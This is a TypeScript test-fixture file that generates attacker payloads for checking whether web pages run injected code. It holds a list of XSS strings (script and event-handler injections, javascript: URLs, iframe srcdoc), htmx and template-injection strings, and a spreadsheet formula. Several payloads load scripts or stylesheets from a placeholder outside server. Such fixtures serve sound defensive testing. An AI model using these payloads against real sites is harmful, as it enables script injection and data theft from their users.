/** Texts of an attacker who wants a browser to run something: each holds a mark by which it is found again. */
export interface Poison {
  /** Returns everything at once, for texts of any length. */
  whole(mark: string): string
  /** Returns a mark and one attack, within 60 characters; `turn` chooses which. */
  short(mark: string, turn?: number): string
}

const SHORT = [
  '"><img src=x onerror=canary()>',
  '</title><svg onload=canary()>',
  "'><script>canary()</script>",
] as const

/** Returns payloads that call `canary()` or request `elsewhere`, a server none of our pages should contact. */
export function poisonFor(elsewhere: string): Poison {
  return {
    whole: (mark) =>
      [
        mark,
        `"'><script>canary('script')</script><script src="${elsewhere}/script.js"></script>`,
        `<img src="${elsewhere}/image.png" onerror="canary('error')" onload="canary('load')">`,
        `<svg onload="canary('svg')"><animate onbegin="canary('begin')" attributeName="x"></animate><script>canary('svg script')</script></svg>`,
        `<style>@import "${elsewhere}/import.css";*{background:url(${elsewhere}/background.png)}</style>`,
        `<p style="background:url(${elsewhere}/attribute.png);position:fixed;inset:0">x</p>`,
        `</textarea></title></style></script></option></select></template><img src=x onerror=canary('closed')>`,
        `<iframe src="javascript:parent.canary('frame')"></iframe><iframe srcdoc="<script>parent.canary('srcdoc')</script>"></iframe>`,
        `<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed"><base href="${elsewhere}/">`,
        `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><link rel="stylesheet" href="${elsewhere}/link.css">`,
        `<a href="javascript:canary('link')" autofocus onfocus="canary('focus')">x</a><form action="${elsewhere}/form"><input autofocus onfocus="canary('field')"></form>`,
        `" hx-get="${elsewhere}/htmx" hx-trigger="load" hx-on:load="canary('htmx')" onmouseover="canary('over')" x="`,
        `<div hx-get="${elsewhere}/htmx" hx-trigger="load" data-hx-get="${elsewhere}/htmx"></div>`,
        `{{constructor.constructor('canary()')()}} \${canary('template')} <%= canary() %> #{canary()} {client}`,
        `[x](javascript:canary('markdown')) ![x](${elsewhere}/markdown.png) javascript:canary('address')`,
        `\u202eexe.fdp\u202c --><!-- ]]> &lt;script&gt;canary('twice')&lt;/script&gt;`,
      ].join('\n'),
    short: (mark, turn = 0) => `${mark}${SHORT[turn % SHORT.length]}`,
  }
}

/** Text that a spreadsheet would calculate. */
export const FORMULA = '=HYPERLINK("http://x.example")'
